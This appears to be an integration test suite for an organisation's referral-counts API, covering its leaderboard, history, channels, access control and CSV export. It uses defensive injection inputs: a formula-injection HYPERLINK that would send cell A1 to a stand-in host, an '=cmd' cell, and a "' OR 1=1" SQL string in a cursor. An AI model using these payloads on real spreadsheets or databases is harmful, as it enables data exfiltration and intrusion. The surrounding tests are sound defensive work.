"""The counts API of an organisation on a real server and Postgres: sums, order, days, channels, activity, export."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
import pytest_asyncio

from edges.web import export
from edges.web.cursors import write_cursor
from edges.web.organisation import CHANNELS_MAX, Place
from models.badges import SEEDED_DEFINITIONS
from models.spreadsheets import as_text
from process.settings import Settings
from tests.mentor_rows import COUNTED_AT, execute, put_award, put_counts, put_mentor, put_milestone, put_name
from tests.milestones import MENTOR, ORG, OTHER_ORG, new_id
from tests.web import Web, bearer, running_web

pytestmark = pytest.mark.integration

HOUR = timedelta(hours=1)


@pytest_asyncio.fixture
async def web(settings: Settings) -> AsyncIterator[Web]:
    """Give a client of a server, whose requests are a coordinator's unless they say otherwise."""
    async with running_web(settings) as web:
        web.headers.update(bearer(org_id=ORG))
        yield web


async def ask(web: Web, path: str, **parameters: object) -> dict[str, Any]:
    """Return the organisation's answer to a path."""
    answer = await web.get(f"/v1/orgs/{ORG}/{path}", params={name: str(given) for name, given in parameters.items()})
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def ids(number: int) -> list[str]:
    """Return mentors' ids in their order."""
    return [f"0b000000-0000-4000-8000-{n:012}" for n in range(number)]


async def test_summary(web: Web, settings: Settings) -> None:
    """Sums over its own mentors, with or without activity; clicks of robots apart."""
    nothing = await ask(web, "summary")
    assert (nothing["name"], nothing["updatedAt"], nothing["conversionRate"]) == (None, None, 0.0)
    assert {value for value in nothing.values() if isinstance(value, int)} == {0}
    assert {*nothing["happened"].values()} == {0}
    for number, mentor_id in enumerate(ids(4)):
        put_mentor(settings, mentor_id=mentor_id, code=f"ABCDEFGH{number}0")
        put_milestone(settings, 1, mentor_id=mentor_id, state="decided" if number else "awaiting_mentor")
    put_mentor(settings, org_id=OTHER_ORG)
    execute(settings, "UPDATE organisations SET name = 'Vi hjelper' WHERE org_id = %s", [ORG])
    put_counts(settings, 10, 3, 2, mentor_id=ids(2)[0])
    put_counts(settings, 0, 1, 1, mentor_id=ids(2)[1], counted_at=COUNTED_AT + HOUR)
    put_counts(settings, 0, 0, 0, mentor_id=ids(3)[2])
    put_counts(settings, 7, 7, 7, org_id=OTHER_ORG)
    put_award(settings, 1, mentor_id=ids(1)[0])
    for day in (0, 1):
        execute(
            settings,
            "INSERT INTO filtered_clicks VALUES (%s, %s, 'preview', 4)",
            [ORG, COUNTED_AT.date() + timedelta(days=day)],
        )
    assert await ask(web, "summary") == {
        "orgId": ORG,
        "name": "Vi hjelper",
        "mentors": 4,
        "activeMentors": 2,
        "totalClicks": 10,
        "pendingAttributions": 4,
        "confirmedAttributions": 3,
        "conversionRate": 0.3,
        "milestones": 3,
        "awards": 1,
        "filteredClicks": 8,
        "happened": {"clicks": 0, "registered": 0, "confirmed": 0, "withdrawn": 0},
        "updatedAt": "2026-11-20T13:30:00Z",
    }


async def test_leaderboard_page_by_page(web: Web, settings: Settings) -> None:
    """Most confirmed first, then by id; every mentor once, ranks without a gap, whatever the pages' size."""
    confirmed = [0, 5, 2, 5, 0, 0, 2, 9, 0, 5]
    for mentor_id, count in zip(ids(10), confirmed, strict=True):
        put_counts(settings, 10, 0, count, mentor_id=mentor_id)
    put_counts(settings, 10, 0, 7, org_id=OTHER_ORG)
    right = [ids(10)[number] for number in (7, 1, 3, 9, 2, 6, 0, 4, 5, 8)]
    for limit in (1, 3, 4, 9, 10, 100):
        entries: list[dict[str, Any]] = []
        page = await ask(web, "leaderboard", limit=limit)
        entries += page["entries"]
        while page["next"] is not None:
            assert len(page["entries"]) == limit
            page = await ask(web, "leaderboard", limit=limit, after=page["next"])
            entries += page["entries"]
        assert [entry["mentorId"] for entry in entries] == right, limit
        assert [entry["rank"] for entry in entries] == list(range(1, 11)), limit
    assert entries[0] == {
        "rank": 1,
        "mentorId": ids(8)[7],
        "referralCode": "ABCDEFGH12",
        "totalClicks": 10,
        "pendingAttributions": 0,
        "confirmedAttributions": 9,
        "conversionRate": 0.9,
        "displayName": None,
        "group": None,
    }
    assert (await ask(web, "leaderboard"))["next"] is None


async def test_names_are_shown_and_found(web: Web, settings: Settings) -> None:
    """On every page of the leaderboard, in activity, export and finder; another organisation's never, however asked."""
    names = ("Åse-Marie Bjørk", "=1+1 <b>Ø'Brien</b>", "אנה", "Anna Maria Berg")
    for number, (mentor_id, name) in enumerate(zip(ids(4), names, strict=True)):
        put_mentor(settings, mentor_id=mentor_id, code=f"ABCDEFGH{number}0")
        put_counts(settings, 9, 0, 9 - number, mentor_id=mentor_id)
        put_name(settings, name, group="Nord", mentor_id=mentor_id)
    put_mentor(settings, org_id=OTHER_ORG)
    put_name(settings, "Åse Outside", org_id=OTHER_ORG)
    put_award(settings, 1, mentor_id=ids(1)[0])
    page = await ask(web, "leaderboard", limit=2)
    rest = await ask(web, "leaderboard", limit=2, after=page["next"])
    assert [entry["displayName"] for entry in page["entries"] + rest["entries"]] == list(names)
    assert rest["entries"][0]["group"] == "Nord"
    assert (await ask(web, "activity"))["names"] == {ids(1)[0]: names[0]}
    assert (await ask(web, f"mentors/{ids(1)[0]}"))["displayName"] == names[0]
    rows = list(csv.DictReader(io.StringIO((await web.get(f"/v1/orgs/{ORG}/export.csv")).text)))
    assert [(row["display_name"], row["group"]) for row in rows][1:3] == [("'" + names[1], "Nord"), (names[2], "Nord")]
    wanted = {
        "ase": 0, "BJÖRK": 0, "marie b": 0, "Bjørk, Åse": 0, "obrien": 1, "ø'brien": 1, "אנ": 2, "ann": 3,
        "anna berg": 3, "Berg Anna": 3, "maria": 3, "abcdefgh30": 3,
    }  # fmt: skip
    for text, number in wanted.items():
        found = (await ask(web, "mentors", find=text))["mentors"]
        assert [each["displayName"] for each in found] == [names[number]], text
    for text in ("outside", "se", "anna x", "%", "bx"):
        assert (await web.get(f"/v1/orgs/{ORG}/mentors", params={"find": text})).json().get("mentors") in ([], None)
    assert [each["displayName"] for each in (await ask(web, "mentors", find="a", limit=1))["mentors"]] == [names[3]]


async def test_leaderboard_goes_on_where_it_was(web: Web, settings: Settings) -> None:
    """Who was on the page before may have gone or overtaken others: the next page begins after where he was."""
    for mentor_id, count in zip(ids(4), (4, 3, 2, 1), strict=True):
        put_counts(settings, 10, 0, count, mentor_id=mentor_id)
    page = await ask(web, "leaderboard", limit=2)
    execute(settings, "DELETE FROM mentor_counts WHERE confirmed_attributions = 3")
    put_counts(settings, 10, 0, 9, mentor_id=ids(3)[2])
    rest = await ask(web, "leaderboard", limit=2, after=page["next"])
    assert [(entry["rank"], entry["mentorId"]) for entry in rest["entries"]] == [(3, ids(4)[3])]


async def test_parameters_that_cannot_be_used(web: Web) -> None:
    """422 that names the parameter; a cursor may be any text and is no way in."""
    good = write_cursor(Place(1, 1, MENTOR))
    cursors = [
        "", "x", "AAAA", good[:-2], f"!{good}", "[" * 200, "a" * 201,
        write_cursor(Place(0, 1, MENTOR)), write_cursor(Place(1, 2**63, MENTOR)), write_cursor(Place(1, 1, "' OR 1=1")),
    ]  # fmt: skip
    faults: list[tuple[str, str, object]] = [
        *(("leaderboard", "limit", value) for value in (0, 101, -1, "many", "", 1.5)),
        *(("leaderboard", "after", value) for value in cursors),
        *(("daily", "days", value) for value in (0, 367, "all")),
        *(("activity", "limit", value) for value in (0, 101)),
        *((path, "days", value) for value in (0, 367, "all", -1) for path in ("history", "history.csv")),
        *(("history", "quarter", value) for value in ("", "2026-Q5", "9999-Q1", "now", "x" * 30)),
        *(("history", "from", value) for value in ("", "yesterday", "2026-02-30", "9999-12-31", "1999-01-01")),
        ("history", "order", "up"),
        ("history", "sort", "luck"),
    ]
    for path, name, value in faults:
        answer = await web.get(f"/v1/orgs/{ORG}/{path}", params={name: str(value)})
        assert (answer.status_code, answer.headers["content-type"]) == (422, "application/problem+json"), (name, value)
        assert [error["field"] for error in answer.json()["errors"]] == [name], (name, value)
    assert (await ask(web, "leaderboard", after=good))["entries"] == []
    both = await web.get(f"/v1/orgs/{ORG}/history", params={"from": "2026-11-02", "to": "2026-11-01"})
    assert [error["message"] for error in both.json()["errors"]] == ["is after to, 2026-11-01"]
    alone = await web.get(f"/v1/orgs/{ORG}/history", params={"to": "2026-11-01"})
    assert [error["message"] for error in alone.json()["errors"]] == ["is required where to is given"]


HAPPENED = ("clicks", "registered", "confirmed", "withdrawn")


def numbers(of: dict[str, Any]) -> tuple[int, ...]:
    """Return what happened, of a day, a period or a channel."""
    return tuple(of[name] for name in HAPPENED)


async def test_history_beside_the_period_before(web: Web, settings: Settings) -> None:
    """Days of the organisation's time zone, with sums, channels and how long confirmations took; the same as CSV."""
    for org_id, code in ((ORG, "ABCDEFGH12"), (OTHER_ORG, "ABCDEFGH34")):
        put_mentor(settings, org_id=org_id, code=code)
    execute(settings, "UPDATE organisations SET time_zone = 'Pacific/Kiritimati' WHERE org_id = %s", [ORG])  # UTC+14
    nothing = await ask(web, "history", **{"from": "2026-03-01", "to": "2026-03-02"})
    assert (nothing["timeZone"], nothing["channels"]) == ("Pacific/Kiritimati", [])
    assert nothing["period"]["confirmationTime"] == {"measured": 0, "medianHours": None, "p90Hours": None}
    for channel, at, clicks in (
        ("sms", "2026-03-01T10:00Z", 5),  # there it is the second
        ("sms", "2026-02-27T09:45Z", 2),
        ("email", "2026-03-01T09:45Z", 1),
        ("=cmd", "2026-03-01T09:30Z", 1),
        ("email", "2026-02-26T09:45Z", 100),  # long before
    ):
        execute(settings, "INSERT INTO history_channels VALUES (%s, %s) ON CONFLICT DO NOTHING", [ORG, channel])
        for org_id in (ORG, OTHER_ORG):
            execute(
                settings,
                "INSERT INTO organisation_quarter_hours VALUES (%s, %s, %s, %s)",
                [org_id, at, channel, clicks],
            )
    for number, (pending, confirmed, withdrawn) in enumerate(
        (
            ("2026-02-26T12:00Z", "2026-03-01T09:00Z", None),
            ("2026-03-01T08:00Z", "2026-03-01T09:00Z", "2026-03-01T12:00Z"),
            ("2026-03-01T08:00Z", None, None),
        )
    ):
        execute(
            settings,
            "INSERT INTO registration_pairs VALUES (%s, %s, 'ABCDEFGH12', 'sms', %s, %s, %s, %s)",
            [ORG, ids(3)[number], pending, confirmed, confirmed, withdrawn],
        )
    found = await ask(web, "history", **{"from": "2026-03-01", "to": "2026-03-02"})
    assert [(day["day"], *numbers(day)) for day in found["days"]] == [
        ("2026-03-01", 2, 2, 2, 0),
        ("2026-03-02", 5, 0, 0, 1),
    ]
    assert numbers(found["period"]) == (7, 2, 2, 1)
    assert found["period"]["confirmationTime"] == {"measured": 2, "medianHours": 1, "p90Hours": 69}
    assert (found["before"]["from"], found["before"]["to"]) == ("2026-02-27", "2026-02-28")
    assert numbers(found["before"]) == (2, 1, 0, 0)
    assert [channel["channel"] for channel in found["channels"]] == ["sms", "=cmd", "email"]
    sms = found["channels"][0]
    assert (numbers(sms), numbers(sms["before"])) == ((5, 2, 2, 1), (2, 1, 0, 0))
    assert [numbers(part) for part in sms["parts"]] == [(0, 2, 2, 0), (5, 0, 0, 1)]
    turned = await ask(web, "history", **{"from": "2026-03-01", "to": "2026-03-02", "order": "desc", "sort": "channel"})
    assert turned["days"] == found["days"][::-1]
    assert [channel["channel"] for channel in turned["channels"]] == ["=cmd", "email", "sms"]
    year = await ask(web, "history", **{"from": "2026-01-01", "to": "2026-03-02"})
    assert (len(year["days"]), year["partDays"], len(year["channels"][0]["parts"])) == (61, 7, 9)
    assert len((await ask(web, "history"))["days"]) == 30
    assert (await ask(web, "history", quarter="2026-Q1"))["period"]["to"] == "2026-03-31"
    assert (await ask(web, "summary"))["happened"] == dict(zip(HAPPENED, (109, 3, 2, 1), strict=True))

    saved = await web.get(f"/v1/orgs/{ORG}/history.csv", params={"from": "2026-03-01", "to": "2026-03-02"})
    assert saved.headers["content-disposition"] == 'attachment; filename="history-2026-03-01-2026-03-02.csv"'
    assert saved.text.splitlines() == [
        "day,channel,clicks,registered,confirmed,withdrawn",
        "2026-03-01,'=cmd,1,0,0,0",
        "2026-03-01,email,1,0,0,0",
        "2026-03-01,sms,0,2,2,0",
        "2026-03-02,sms,5,0,0,1",
    ]


async def test_days_without_anything_are_there(web: Web, settings: Settings) -> None:
    """Every day to today in UTC, with net changes; less than nothing pending where more were confirmed than came."""
    today = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    put_counts(settings, 1, 1, 1, mentor_id=new_id(), counted_at=today - timedelta(days=400))
    put_counts(settings, 10, 3, 0, counted_at=today - timedelta(microseconds=1))
    put_counts(settings, 12, 1, 2, counted_at=today)
    put_counts(settings, 5, 5, 5, org_id=OTHER_ORG, counted_at=today)
    answer = await ask(web, "daily", days=4)
    last = date.fromisoformat(answer["to"])
    assert last - today.date() in (timedelta(0), timedelta(days=1))  # a midnight may pass meanwhile
    assert answer["from"] == (last - timedelta(days=3)).isoformat()
    assert [day["day"] for day in answer["days"]] == [(last - timedelta(days=n)).isoformat() for n in (3, 2, 1, 0)]
    found = {date.fromisoformat(day): numbers for day, *numbers in (each.values() for each in answer["days"])}
    expected = {today.date() - timedelta(days=1): [10, 3, 0], today.date(): [2, -2, 2]}
    assert found == {day: [0, 0, 0] for day in found} | expected
    assert len((await ask(web, "daily"))["days"]) == 30
    year = (await ask(web, "daily", days=366))["days"]
    assert (len(year), sum(day["clicks"] for day in year)) == (366, 12)
    assert len((await ask(web, "daily", days=1))["days"]) == 1


async def test_channels(web: Web, settings: Settings) -> None:
    """The busiest first; channels that nothing came by are left out."""
    assert await ask(web, "channels") == {"channels": []}
    put_counts(settings, 10, 3, 2, {"sms": (2, 3, 0), "email": (8, 0, 2), "fax": (0, 0, 0)})
    put_counts(settings, 1, 0, 1, {"sms": (1, 0, 0), "letter": (0, 0, 1)}, mentor_id=new_id())
    put_counts(settings, 5, 5, 5, org_id=OTHER_ORG)
    assert [tuple(channel.values()) for channel in (await ask(web, "channels"))["channels"]] == [
        ("email", 8, 0, 2),
        ("sms", 3, 3, 0),
        ("letter", 0, 0, 1),
    ]
    assert (await ask(web, "channels"))["channels"][0].keys() == {"channel", "clicks", "pending", "confirmed"}


@pytest.mark.parametrize("other", [0, 1, 1_000])
async def test_channels_without_end(web: Web, settings: Settings, other: int) -> None:
    """Links name channels, so there may be any number: past a hundred the rest is `other`, and nothing is lost."""
    named = {f"c{number:04}": (500 - number, 1, number % 2) for number in range(3 * CHANNELS_MAX)}
    if other:
        named["other"] = (other, 1, 0)
    clicks, pending, confirmed = (sum(each) for each in zip(*named.values(), strict=True))
    put_counts(settings, clicks, pending, confirmed, named)
    channels = (await ask(web, "channels"))["channels"]
    assert len(channels) in (CHANNELS_MAX, CHANNELS_MAX + 1)
    assert [sum(channel[name] for channel in channels) for name in ("clicks", "pending", "confirmed")] == [
        clicks,
        pending,
        confirmed,
    ]
    assert [channel["channel"] for channel in channels[:2]] == ["c0000", "c0001"]
    assert [channel["channel"] for channel in channels].count("other") == 1


async def test_activity(web: Web, settings: Settings) -> None:
    """The latest of both, the latest first; milestones of mentors whom nobody knows are not told."""
    put_mentor(settings)
    for number, threshold in enumerate((1, 5, 10)):
        put_milestone(settings, threshold, at=COUNTED_AT + number * HOUR)
        put_award(settings, threshold, at=COUNTED_AT + number * HOUR)
    put_milestone(settings, 25, mentor_id=new_id(), state="awaiting_mentor")
    put_milestone(settings, 1, org_id=OTHER_ORG, at=COUNTED_AT + 9 * HOUR)
    answer = await ask(web, "activity")
    assert [milestone["threshold"] for milestone in answer["milestones"]] == [10, 5, 1]
    assert answer["milestones"][0] == {
        "mentorId": MENTOR,
        "threshold": 10,
        "confirmedCount": 11,
        "reachedAt": "2026-11-20T12:30:00Z",
        "recordedAt": "2026-11-20T14:30:00Z",
    }
    assert [award["badgeName"] for award in answer["awards"]] == [each.name for each in SEEDED_DEFINITIONS[2::-1]]
    assert answer["awards"][0] == {
        "mentorId": MENTOR,
        "badgeId": SEEDED_DEFINITIONS[2].badge_id,
        "badgeName": SEEDED_DEFINITIONS[2].name,
        "picture": "medal",
        "confirmedCount": 10,
        "awardedAt": "2026-11-20T14:30:00Z",
    }
    latest = await ask(web, "activity", limit=1)
    assert [len(latest["milestones"]), len(latest["awards"])] == [1, 1]
    assert latest["awards"] == answer["awards"][:1]


async def test_reconciliation(web: Web, settings: Settings) -> None:
    """The latest runs, the latest first, with what they have left; another organisation's are not told."""
    assert await ask(web, "reconciliation") == {"runs": []}
    put_mentor(settings)
    put_mentor(settings, org_id=OTHER_ORG, code="ABCDEFGH99")
    insert = (
        "INSERT INTO reconciliation_runs (org_id, run_id, source, started_at, finished_at, members_read, matched, "
        "without_code, unclear, incomplete, rows_left, reasons_left, fault) "
        "VALUES (%s, %s, 'json', %s, %s, 10, 4, 5, 1, %s, %s, %s, %s)"
    )
    left = '[["page 1, row 3", "status is empty"], ["page 2", "what a version before said"]]'
    reasons = '[["empty", {"field": "status"}]]'
    fault = '["fewer-rows", {"total": "9", "read": "8"}]'
    for number, (incomplete, code) in enumerate(((None, None), ("there is more", fault))):
        at = COUNTED_AT + number * HOUR
        execute(settings, insert, [ORG, new_id(), at, at + HOUR, incomplete, left, reasons, code])
    execute(settings, insert, [OTHER_ORG, new_id(), COUNTED_AT + 9 * HOUR, None, None, left, reasons, None])
    latest, before = (await ask(web, "reconciliation"))["runs"]
    assert (latest["complete"], latest["incomplete"]) == (False, "there is more")
    assert latest["fault"] == {"code": "fewer-rows", "values": {"total": "9", "read": "8"}}
    assert before["fault"] is None
    assert (before["complete"], before["matched"], before["unchanged"], before["unclear"]) == (True, 4, 5, 1)
    assert before["rowsLeft"] == [
        {"place": "page 1, row 3", "reason": "status is empty", "code": "empty", "values": {"field": "status"}},
        {"place": "page 2", "reason": "what a version before said", "code": None, "values": {}},
    ]
    assert len((await ask(web, "reconciliation", limit=1))["runs"]) == 1


async def test_answers_are_asked_for_again_by_their_etag(web: Web, settings: Settings) -> None:
    """What has not changed is 304; what may be kept is never shown without asking."""
    for path in ("summary", "history", "leaderboard", "daily", "channels", "activity"):
        first = await web.get(f"/v1/orgs/{ORG}/{path}")
        assert first.headers["cache-control"] == "private, no-cache"
        same = await web.get(f"/v1/orgs/{ORG}/{path}", headers={"If-None-Match": first.headers["etag"]})
        assert (same.status_code, same.content) == (304, b"")
    put_counts(settings, 10, 3, 2)
    changed = await web.get(f"/v1/orgs/{ORG}/leaderboard", headers={"If-None-Match": first.headers["etag"]})
    assert changed.status_code == 200


async def test_mentors_may_not_see_the_organisation(web: Web) -> None:
    """403 for a mentor, 404 for another organisation, 401 for nobody."""
    for path in ("summary", "leaderboard", "daily", "channels", "activity", "export.csv", "history", "history.csv"):
        address = f"/v1/orgs/{ORG}/{path}"
        assert (await web.get(address, headers=bearer("mentor", org_id=ORG))).status_code == 403
        assert (await web.get(address, headers=bearer(org_id=OTHER_ORG))).status_code == 404
        assert (await web.get(address, headers={"Authorization": ""})).status_code == 401


async def test_export(web: Web, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """A row for each mentor by id, over any number of pages; nothing that a spreadsheet would run."""
    mentors = ids(7)
    for number, mentor_id in enumerate(mentors):
        put_mentor(settings, mentor_id=mentor_id, code=f"ABCDEFGH{number}0")
    put_mentor(settings, org_id=OTHER_ORG)
    put_counts(settings, 10, 3, 2, mentor_id=mentors[3])
    execute(settings, "UPDATE mentor_counts SET milestones = '{1,5}'")
    execute(settings, "INSERT INTO milestone_thresholds (threshold) VALUES (2)", [])
    execute(
        settings,
        "INSERT INTO badge_definitions (badge_id, org_id, type, threshold, name) VALUES (%s, %s, 'recruitment', 2, %s)",
        [new_id(), ORG, '=HYPERLINK("http://x/?"&A1,"look")'],
    )
    put_award(settings, 1, mentor_id=mentors[3])
    execute(
        settings,
        "INSERT INTO badge_awards SELECT org_id, %s, badge_id, badge_id, 2 FROM badge_definitions WHERE threshold = 2",
        [mentors[3]],
    )
    for size in (1, 2, 3, 7, 100):
        monkeypatch.setattr(export, "PAGE", size)
        answer = await web.get(f"/v1/orgs/{ORG}/export.csv")
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        header, *rows = csv.reader(io.StringIO(answer.text))
        assert [row[0] for row in rows] == mentors, size
    assert re.fullmatch(r'attachment; filename="referrals-\d{4}-\d\d-\d\d\.csv"', answer.headers["content-disposition"])
    assert answer.headers["cache-control"] == "no-store"
    assert answer.text.count("\r\n") == 8
    assert rows[0] == [mentors[0], "ABCDEFGH00", "0", "0", "0", "0.0", *[""] * 5]
    assert dict(zip(header, rows[3], strict=True)) == {
        "mentor_id": mentors[3],
        "referral_code": "ABCDEFGH30",
        "total_clicks": "10",
        "pending_attributions": "3",
        "confirmed_attributions": "2",
        "conversion_rate": "0.2",
        "milestones": "1 5",
        "badges": f'{SEEDED_DEFINITIONS[0].name} | \'=HYPERLINK("http://x/?"&A1,"look")',
        "last_event_at": "2026-11-20T12:30:00Z",
        "display_name": "",
        "group": "",
    }
    execute(settings, "DELETE FROM badge_awards WHERE confirmed_count = 1")
    header, *rows = csv.reader(io.StringIO((await web.get(f"/v1/orgs/{ORG}/export.csv")).text))
    assert rows[3][7].startswith("'=HYPERLINK")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])  # noqa: RUF001  the wide ones too
def test_no_cell_begins_like_a_formula(start: str) -> None:
    """Whatever a spreadsheet takes for a formula begins with an apostrophe; other text is left alone."""
    assert as_text(f"{start}1") == f"'{start}1"
    assert as_text(f"1{start}") == f"1{start}"
    assert as_text("") == ""


async def test_an_export_of_nobody(web: Web) -> None:
    """Is the header."""
    assert (await web.get(f"/v1/orgs/{ORG}/export.csv")).text.splitlines() == [",".join(export.HEADER)]
